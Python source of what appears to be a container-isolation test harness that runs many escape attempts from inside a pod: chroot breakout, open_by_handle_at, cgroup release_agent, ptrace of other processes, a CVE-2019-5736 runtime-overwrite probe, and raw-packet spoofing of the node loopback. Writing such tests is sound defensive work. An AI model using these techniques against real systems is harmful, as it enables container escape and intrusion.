"""A container that means ill. It runs inside, with Python's standard library only, tries one way out after the other, and prints what it reached.

Each attack returns None where it was stopped, else words about what was reached. The last line of the output is a JSON object: attack to words, of those
that got through. With names as arguments only those attacks are made.
"""

from __future__ import annotations

import contextlib
import ctypes
import errno
import json
import os
import signal
import socket
import stat
import struct
import sys
import time
from collections.abc import Callable

LIBC = ctypes.CDLL(None, use_errno=True)
NEWNS, NEWCGROUP, NEWUSER, NEWPID = 0x00020000, 0x02000000, 0x10000000, 0x20000000
MS_RDONLY, MS_REMOUNT, MS_BIND = 1, 32, 4096
SYS = {"x86_64": {"add_key": 248, "keyctl": 250, "ptrace": 101, "open_by_handle_at": 304, "bpf": 321, "perf": 298, "kexec": 246, "init_module": 175},
       "aarch64": {"add_key": 217, "keyctl": 219, "ptrace": 117, "open_by_handle_at": 265, "bpf": 280, "perf": 241, "kexec": 104, "init_module": 105}}[
    os.uname().machine
]  # fmt: skip
ATTACKS: dict[str, Callable[[], str | None]] = {}
SECRET = "the-secret-of-another-pod"


def attack(function: Callable[[], str | None]) -> Callable[[], str | None]:
    ATTACKS[function.__name__] = function
    return function


def status() -> str:
    with open("/proc/self/status") as file:
        return file.read()


def succeeds(result: int) -> bool:
    return result >= 0


def syscall(name: str, *args: object) -> int:
    return int(LIBC.syscall(SYS[name], *args))


def mount(source: str, target: str, kind: str = "", flags: int = 0, data: str = "") -> bool:
    return succeeds(LIBC.mount(source.encode(), target.encode(), kind.encode() or None, flags, data.encode() or None))


def opens(path: str, flags: int = os.O_RDONLY) -> bool:
    try:
        os.close(os.open(path, flags | os.O_CLOEXEC | os.O_NONBLOCK))
    except OSError:
        return False
    return True


def in_child(work: Callable[[], str | None]) -> str | None:
    """Run `work` in a fork, since it changes the process for good."""
    read, write = os.pipe()
    pid = os.fork()
    if pid == 0:
        with contextlib.suppress(BaseException):
            os.write(write, (work() or "").encode()[:4000])
        os._exit(0)
    os.close(write)
    with os.fdopen(read, "rb") as file:
        said = file.read().decode()
    os.waitpid(pid, 0)
    return said or None


# -- kernel settings -------------------------------------------------------------------------------------------------------------------


def meant_for_writing(path: str) -> bool:
    try:
        mode = os.lstat(path).st_mode
        # Devices and links: /dev/null covers what is masked. /proc/pressure takes triggers that wake the one who set them.
        return bool(mode & 0o222) and stat.S_ISREG(mode) and not path.startswith("/proc/pressure/")
    except OSError:
        return False


@attack
def write_kernel_settings() -> str | None:
    """Every file of /proc and /sys that is not of a process: none may be opened for writing. Nothing is written."""
    found = []
    for top in ("/proc", "/sys"):
        for folder, folders, files in os.walk(top):
            if folder == "/proc":
                folders[:] = [each for each in folders if not each.isdigit() and each not in ("self", "thread-self")]
            # Root may open what has no write bit as well; the kernel then refuses the write.
            paths = [os.path.join(folder, name) for name in files]
            found += [path for path in paths if meant_for_writing(path) and opens(path, os.O_WRONLY)]
    return f"writable: {found[:10]}" if found else None


@attack
def remount_kernel_settings() -> str | None:
    for path in ("/proc/sys", "/proc/sysrq-trigger", "/proc", "/sys", "/"):
        if mount("none", path, "", MS_REMOUNT | MS_BIND):
            return f"{path} remounted"
        if path not in ("/",) and succeeds(LIBC.umount2(path.encode(), 2)):
            return f"{path} unmounted"
    return None


@attack
def remount_in_a_user_namespace() -> str | None:
    """An ordinary kernel lets anybody be root of a user namespace: what was closed before must stay so in there."""

    def work() -> str | None:
        if not succeeds(LIBC.unshare(NEWUSER | NEWNS)):
            return None
        with contextlib.suppress(OSError):
            for name, text in (("uid_map", f"0 {uid} 1"), ("setgroups", "deny"), ("gid_map", f"0 {gid} 1")):
                with open(f"/proc/self/{name}", "w") as file:
                    file.write(text)
        if mount("none", "/proc/sys", "", MS_REMOUNT | MS_BIND):
            return "/proc/sys remounted"
        if succeeds(LIBC.umount2(b"/proc/sys", 0)) or succeeds(LIBC.umount2(b"/proc/kcore", 0)):
            return "what covered a part of /proc was taken off"
        os.makedirs("/tmp/inner", exist_ok=True)
        if mount("sysfs", "/tmp/inner", "sysfs") and opens("/tmp/inner/kernel/uevent_helper", os.O_WRONLY):
            return "a new sysfs is writable"
        if succeeds(LIBC.unshare(NEWPID)):
            pid = os.fork()
            if pid == 0:
                os._exit(1 if mount("proc", "/tmp/inner", "proc") and opens("/tmp/inner/sysrq-trigger", os.O_WRONLY) else 0)
            if os.waitpid(pid, 0)[1]:
                return "a new proc has everything that was masked"
        return None

    uid, gid = os.getuid(), os.getgid()
    return in_child(work)


@attack
def read_masked_paths() -> str | None:
    for path in ("/proc/kcore", "/proc/keys", "/proc/timer_list", "/proc/sched_debug", "/proc/latency_stats"):
        with contextlib.suppress(OSError), open(path, "rb") as file:
            if file.read(10):
                return f"{path} can be read"
    for folder in ("/sys/firmware", "/proc/scsi", "/proc/acpi"):
        with contextlib.suppress(OSError):
            if os.listdir(folder):
                return f"{folder} is not empty"
    return None


@attack
def machine_wide_calls() -> str | None:
    """The clock, the host's name, modules, another kernel, reboot, swap: by calls that would do no harm if they got through."""
    if succeeds(LIBC.sethostname(b"taken", 5)):
        return "sethostname"
    if syscall("init_module", 0, 0, b"") != -1 or ctypes.get_errno() not in (errno.EPERM, errno.ENOSYS):
        return f"init_module: {os.strerror(ctypes.get_errno())}"
    if syscall("kexec", 0, 0, 0, 0) != -1:
        return "kexec_load"
    if syscall("bpf", 0, ctypes.create_string_buffer(struct.pack("IIII", 2, 4, 4, 1) + bytes(100)), 72) != -1:
        return "bpf"
    with contextlib.suppress(OSError):
        time.clock_settime(time.CLOCK_REALTIME, time.time())
        return "clock_settime"
    if LIBC.swapoff(b"/nowhere") != -1 or ctypes.get_errno() != errno.EPERM:
        return "swapoff"
    if LIBC.reboot(0x89ABCDEF) == 0:  # Turns Ctrl-Alt-Del on, and no more.
        return "reboot"
    return None


# -- devices, mounts, cgroups ----------------------------------------------------------------------------------------------------------


@attack
def devices() -> str | None:
    allowed = {"null", "zero", "full", "random", "urandom", "tty", "ptmx", "pts", "shm", "mqueue", "fd", "stdin", "stdout", "stderr", "core",
               "termination-log", "console"}  # fmt: skip
    more = set(os.listdir("/dev")) - allowed
    if more:
        return f"in /dev: {sorted(more)}"
    for folder in ("/tmp", "/dev", "/dev/shm", "/", "/volume"):
        # /dev/kmsg, /dev/mem, a disk, and the loop control.
        for major, minor, kind in (
            (1, 11, 0o020000),
            (1, 1, 0o020000),
            (254, 0, 0o060000),
            (8, 0, 0o060000),
            (10, 237, 0o020000),
        ):
            path = f"{folder}/dev-{major}-{minor}"
            with contextlib.suppress(OSError):
                os.mknod(path, 0o600 | kind, os.makedev(major, minor))
                if opens(path):
                    return f"a device node made in {folder} can be opened"
    return None


@attack
def mounts() -> str | None:
    os.makedirs("/tmp/m", exist_ok=True)
    for kind in ("tmpfs", "proc", "sysfs", "cgroup", "cgroup2", "devtmpfs", "debugfs", "securityfs", "overlay"):
        if mount("none", "/tmp/m", kind):
            return f"{kind} mounted"
    if succeeds(LIBC.unshare(NEWNS)):
        return "a mount namespace of one's own"
    return None


@attack
def cgroups() -> str | None:
    """Out of one's cgroup, or its limits up, also as root of a user and a cgroup namespace."""
    if os.path.isdir("/sys/fs/cgroup"):
        for folder, _, files in os.walk("/sys/fs/cgroup"):
            if opens(os.path.join(folder, "cgroup.procs"), os.O_WRONLY) and "cgroup.procs" in files:
                return f"{folder} is writable"

    def work() -> str | None:
        if not succeeds(LIBC.unshare(NEWUSER | NEWNS | NEWCGROUP)):
            return None
        os.makedirs("/tmp/cg", exist_ok=True)
        for controller in ("memory", "pids", "cpu", "devices", "rdma", "freezer", "none,name=systemd"):
            if mount("cgroup", "/tmp/cg", "cgroup", 0, controller):
                # The own limits are the pod's affair, which has limits of its own above them.
                for name in ("release_agent", "cgroup.sane_behavior"):
                    if opens(f"/tmp/cg/{name}", os.O_WRONLY):
                        return f"{controller}/{name} is writable"
                more = [each for each in os.listdir("/tmp/cg") if os.path.isdir(f"/tmp/cg/{each}")]
                if more or opens("/tmp/cg/../memory.limit_in_bytes", os.O_WRONLY):
                    return f"cgroups of others: {more}"
                LIBC.umount2(b"/tmp/cg", 2)
        return None

    return in_child(work)


# -- processes -------------------------------------------------------------------------------------------------------------------------


def processes() -> list[int]:
    return [int(each) for each in os.listdir("/proc") if each.isdigit()]


@attack
def other_processes() -> str | None:
    """Only one's own are to be seen, and those that can be named by guessing are not there."""
    for pid in processes():
        with contextlib.suppress(OSError), open(f"/proc/{pid}/cmdline", "rb") as file:
            if file.read().startswith(b"kubeling"):
                return f"process {pid} is not ours"
    for pid in range(1, 70000):
        if pid not in processes_before and pid != os.getpid():
            with contextlib.suppress(OSError):
                os.kill(pid, 0)
                if not os.path.exists(f"/proc/{pid}"):
                    return f"{pid} can be signalled"
    return None


@attack
def foreign_memory() -> str | None:
    """Files, memory and root of every process that is not ours, and ptrace of it."""
    mine = own_family()
    for pid in processes():
        if pid in mine or ("hostPID" in sys.argv and not of_the_node(pid)):
            continue
        # The init of a shared namespace is the pod's own, and an empty program: with CAP_SYS_PTRACE it may be had, and must lead nowhere.
        empty = pid == 1 and "SYS_PTRACE" in os.environ
        for name in ("root/etc", "cwd/etc") if empty else ("root/etc", "mem", "environ", "cwd/", "exe", "maps"):
            if opens(f"/proc/{pid}/{name}"):
                return f"/proc/{pid}/{name} can be opened"
        if not empty and syscall("ptrace", 0x4206, pid, 0, 0) == 0:
            return f"process {pid} can be traced"
    return None


def own_family() -> set[int]:
    """Ourselves, and what runs in the same mount namespace as we do."""
    ours, mine = {os.getpid()}, os.readlink("/proc/self/ns/mnt")
    for pid in processes():
        with contextlib.suppress(OSError):
            if os.readlink(f"/proc/{pid}/ns/mnt") == mine:
                ours.add(pid)
    return ours


def of_the_node(pid: int) -> bool:
    """Whether a process is one of the node's daemons. With hostPID other pods are seen too, and what they have we have as well."""
    with contextlib.suppress(OSError), open(f"/proc/{pid}/cmdline", "rb") as file:
        return file.read().startswith(b"kubeling")
    return False


@attack
def keyrings() -> str | None:
    """A key that another pod has put into its session's keyring must not be found from ours."""
    # 10: search, 11: read; -3: the session's keyring. That of the user (-4) is one for the whole machine, for all who may make these calls at all.
    for ring in (-3, -4) if "Seccomp:\t2" in status() else (-3,):
        found = syscall("keyctl", 10, ring, b"user", b"kubeling-secret", 0)
        if found > 0:
            return f"key {found}"
    return None


@attack
def shared_memory() -> str | None:
    """System V and POSIX shared memory and message queues of another pod."""
    if LIBC.shmget(0x6B756265, 0, 0) >= 0:
        return "another pod's System V segment"
    left = [
        name
        for folder in ("/dev/shm", "/dev/mqueue")
        if os.path.isdir(folder)
        for name in os.listdir(folder)
        if name.startswith("kubeling-")
    ]
    return f"{left}" if left else None


@attack
def abstract_sockets() -> str | None:
    with open("/proc/net/unix") as file:
        names = [line.split()[-1] for line in file if "@kubeling" in line or "@other-pod" in line]
    return f"{names}" if names else None


# -- files -----------------------------------------------------------------------------------------------------------------------------


@attack
def open_descriptors() -> str | None:
    """Nothing but the three that everybody has."""
    at_start = {int(each) for each in os.environ.get("FDS", "").split()} - {0, 1, 2}
    found = {fd: os.readlink(f"/proc/self/fd/{fd}") for fd in at_start if os.path.islink(f"/proc/self/fd/{fd}")}
    return f"{found}" if found else None


@attack
def node_files() -> str | None:
    """What the cluster keeps on the node: certificates, sockets, other pods' volumes."""
    for path in os.environ.get("FORBIDDEN", "").split(":"):
        if path and os.path.isdir(path) and os.listdir(path):
            return f"{path}: {os.listdir(path)[:3]}"
        if path and not os.path.isdir(path) and os.path.exists(path):
            return path
    return None


@attack
def file_handles() -> str | None:
    """open_by_handle_at knows no mount namespace: inode 2 is the root of every ext4."""
    handle = ctypes.create_string_buffer(struct.pack("IiII", 8, 1, 2, 0))
    for path in ("/etc/hosts", "/etc/resolv.conf", "/dev/termination-log", "/volume"):
        with contextlib.suppress(OSError):
            fd = os.open(path, os.O_RDONLY)
            found = syscall("open_by_handle_at", fd, handle, os.O_RDONLY)
            os.close(fd)
            if found >= 0:
                return f"the root of the file system of {path}: {os.listdir(found)[:5]}"
    return None


@attack
def chroot_out() -> str | None:
    def work() -> str | None:
        os.makedirs("/tmp/jail", exist_ok=True)
        top = os.open("/", os.O_RDONLY)
        os.chroot("/tmp/jail")
        os.fchdir(top)
        for _ in range(64):
            os.chdir("..")
        os.chroot(".")
        return None if os.path.exists("/.inside") else "the node's root"

    with open("/.inside", "w"):
        pass
    return in_child(work)


@attack
def parent_of_the_working_directory() -> str | None:
    """Where the runtime left us: `..` ends at our own root."""
    try:
        here = os.getcwd()
    except FileNotFoundError:
        return "a directory outside of our root"
    return None if here.startswith("/") else here


@attack
def overwrite_the_runtime() -> str | None:
    """CVE-2019-5736: whoever is executed beside us comes from the node; its program must not be open to writing. We wait for an exec to happen."""
    if "WAIT_FOR_EXEC" not in os.environ:
        return None
    print("waiting for an exec", flush=True)
    mine, deadline, seen = set(processes()), time.monotonic() + float(os.environ["WAIT_FOR_EXEC"]), 0
    held: set[int] = set()
    while time.monotonic() < deadline:
        for pid in processes():
            if pid in mine:
                continue
            seen += 1
            for name in ("exe", "root/etc/passwd"):
                with contextlib.suppress(OSError):
                    fd = os.open(f"/proc/{pid}/{name}", os.O_PATH)
                    if name == "exe" and "python" in os.readlink(f"/proc/self/fd/{fd}") and not os.environ.get("OWN_PYTHON"):
                        held.add(fd)
                    else:
                        os.close(fd)
            with contextlib.suppress(OSError):
                os.close(os.open(f"/proc/{pid}/exe", os.O_WRONLY))
                return f"the program of process {pid} can be written to"
    for fd in held:
        with contextlib.suppress(OSError):
            os.close(os.open(f"/proc/self/fd/{fd}", os.O_WRONLY))
            return "a program of the node can be written to"
    print(f"looked at {seen} processes", flush=True)
    return None


# -- network ---------------------------------------------------------------------------------------------------------------------------


@attack
def change_the_network() -> str | None:
    """Addresses, routes and rules are the node's affair: no CAP_NET_ADMIN."""
    with contextlib.suppress(OSError), socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as sock:
        # RTM_DELLINK of interface 2.
        sock.send(struct.pack("=IHHII", 32, 17, 5, 1, 0) + struct.pack("=BxHiII", 0, 0, 2, 0, 0))
        answer = sock.recv(4096)
        code = struct.unpack_from("=i", answer, 16)[0]
        if code != -errno.EPERM:
            return f"the answer to the removal of our card is {code}"
    return None


@attack
def loopback_of_the_node() -> str | None:
    """What listens on the node's 127.0.0.1 is for the node: packets with that goal that come from a pod are dropped (CVE-2020-8558)."""
    ports = [int(each) for each in os.environ.get("NODE_PORTS", "").split()]
    gateway, card = gateway_mac(), "eth0"
    if gateway is None or not ports:
        return None
    me = os.environ["POD_IP"]
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0800)) as wire:
        wire.bind((card, 0))
        wire.settimeout(0.3)
        own = wire.getsockname()[4]
        for port in ports:
            for _ in range(3):
                wire.send(gateway + own + b"\x08\x00" + syn(me, "127.0.0.1", 40000 + port % 1000, port))
                deadline = time.monotonic() + 0.4
                while time.monotonic() < deadline:
                    with contextlib.suppress(TimeoutError):
                        packet = wire.recv(2000)
                        if packet[26:30] == socket.inet_aton("127.0.0.1") and packet[23] == 6:
                            return f"port {port} of the node's loopback answers (flags {packet[14 + 20 + 13]:#x})"
    return None


def gateway_mac() -> bytes | None:
    with open("/proc/net/arp") as file:
        for line in file.readlines()[1:]:
            mac = bytes.fromhex(line.split()[3].replace(":", ""))
            if any(mac):
                return mac
    return None


def checksum(data: bytes) -> int:
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def syn(source: str, goal: str, sport: int, port: int) -> bytes:
    a, b = socket.inet_aton(source), socket.inet_aton(goal)
    tcp = struct.pack("!HHIIBBHHH", sport, port, 1, 0, 5 << 4, 2, 64240, 0, 0)
    tcp = tcp[:16] + struct.pack("!H", checksum(a + b + struct.pack("!BBH", 0, 6, len(tcp)) + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 1, 0, 64, 6, 0, a, b)
    return ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:] + tcp


@attack
def another_pods_address() -> str | None:
    """A packet with somebody else's source address must not get off our cable: a datagram to VICTIM that says it comes from SPOOFED."""
    victim, spoofed, gateway = os.environ.get("VICTIM"), os.environ.get("SPOOFED"), gateway_mac()
    if not victim or not spoofed or gateway is None:
        return None
    data = b"spoofed!"
    udp = struct.pack("!HHHH", 999, 9999, 8 + len(data), 0) + data
    ip = struct.pack(
        "!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 1, 0, 64, 17, 0, socket.inet_aton(spoofed), socket.inet_aton(victim)
    )
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0800)) as wire:
        wire.bind(("eth0", 0))
        for _ in range(5):
            wire.send(gateway + wire.getsockname()[4] + b"\x08\x00" + ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:] + udp)
    return None  # The victim says whether it came.


# -- identity --------------------------------------------------------------------------------------------------------------------------


@attack
def capabilities() -> str | None:
    """Not more than the spec grants: EXPECTED_CAPS is the set that is allowed, in hexadecimal."""
    allowed = int(os.environ.get("EXPECTED_CAPS", "a80425fb"), 16)
    with open("/proc/self/status") as file:
        sets = dict(line.split(":\t") for line in file if line.startswith("Cap"))
    for name, value in sets.items():
        if int(value, 16) & ~allowed:
            return f"{name} {value.strip()}"
    return None


def main() -> None:
    signal.alarm(int(os.environ.get("SECONDS_AT_MOST", "120")))
    wanted = [name for name in sys.argv[1:] if name in ATTACKS] or list(ATTACKS)
    reached = {}
    for name in wanted:
        try:
            words = ATTACKS[name]()
        except OSError as error:
            print(f"{name}: {error}")
            continue
        print(f"{name}: {words or 'stopped'}", flush=True)
        if words:
            reached[name] = words
    print("REACHED " + json.dumps(reached), flush=True)


processes_before = set(processes())

if __name__ == "__main__":
    main()
